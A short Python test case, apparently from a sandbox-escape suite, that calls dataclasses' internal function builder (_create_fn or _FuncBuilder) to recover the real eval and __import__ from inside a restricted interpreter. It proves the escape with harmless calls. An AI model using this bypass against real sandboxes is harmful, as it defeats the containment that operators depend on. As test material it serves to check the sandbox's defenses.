# technique: dataclasses' code generator called directly (_create_fn up to 3.12, _FuncBuilder from 3.13) with user-written source: it execs it in dataclasses' own globals, so the new function sees the real eval and __import__
# configs: default, common
# The source is a plain string literal that names no blocked thing as a whole; with nothing
# allowed `import dataclasses` is refused.
import dataclasses
body = ['  return eval, __import__']
try:
    make = dataclasses._create_fn('loot', [], body)
except AttributeError:
    builder = dataclasses._FuncBuilder({})
    builder.add_fn('loot', [], body)
    Holder = dataclasses.make_dataclass('Holder', [])
    builder.add_fns_to_class(Holder)
    make = Holder.loot
real_eval, real_import = make()
return [{'json': {'escaped': [real_eval('6 * 7'), real_import('os').getpid()]}}]
